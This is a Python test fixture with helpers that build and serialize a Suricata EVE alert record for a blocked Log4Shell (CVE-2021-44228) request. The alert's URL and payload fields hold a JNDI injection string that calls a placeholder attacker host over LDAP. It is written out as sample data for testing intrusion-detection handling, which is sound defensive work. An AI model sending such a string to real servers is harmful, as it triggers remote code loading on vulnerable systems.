"""EVE alerts for tests: one that Suricata 7.0.10 wrote in IPS mode, with changes."""

from __future__ import annotations

import json
from typing import Any

_ALERT: dict[str, Any] = {
    "timestamp": "2023-11-14T22:13:20.030000+0000",
    "flow_id": 1261577830,
    "event_type": "alert",
    "src_ip": "10.9.0.1",
    "src_port": 40000,
    "dest_ip": "10.9.0.2",
    "dest_port": 80,
    "proto": "TCP",
    "pkt_src": "wire/pcap",
    "community_id": "1:yUNan987qPsvRrWYa25qTp6TpaA=",
    "tx_id": 0,
    "alert": {
        "action": "blocked",
        "gid": 1,
        "signature_id": 1,
        "rev": 2,
        "signature": "jndi",
        "category": "Attempted Administrator Privilege Gain",
        "severity": 1,
        "metadata": {
            "affected_product": ["Apache_Log4j"],
            "created_at": ["2021_12_10"],
            "cve": ["CVE_2021_44228"],
        },
    },
    "http": {
        "hostname": "web1.example",
        "url": "/x?a=${jndi:ldap://evil/a}",
        "http_user_agent": "curl",
        "http_method": "GET",
        "protocol": "HTTP/1.1",
        "length": 0,
    },
    "app_proto": "http",
    "direction": "to_server",
    "flow": {
        "pkts_toserver": 3,
        "pkts_toclient": 1,
        "bytes_toserver": 243,
        "bytes_toclient": 54,
        "start": "2023-11-14T22:13:20.000000+0000",
        "src_ip": "10.9.0.1",
        "dest_ip": "10.9.0.2",
        "src_port": 40000,
        "dest_port": 80,
    },
    "payload": "R0VUIC94P2E9JHtqbmRpOmxkYXA6Ly9ldmlsL2F9IEhUVFAvMS4xDQoNCg==",
    "payload_printable": "GET /x?a=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n",
    "stream": 1,
    "verdict": {"action": "drop"},
}


def build_eve(**changes: Any) -> dict[str, Any]:
    """The event with the members given changed or added; None removes one."""
    event = {**_ALERT, **changes}
    return {key: value for key, value in event.items() if value is not None}


def render_eve(**changes: Any) -> bytes:
    """As the engine writes it, without the newline."""
    return json.dumps(build_eve(**changes), separators=(",", ":")).encode()
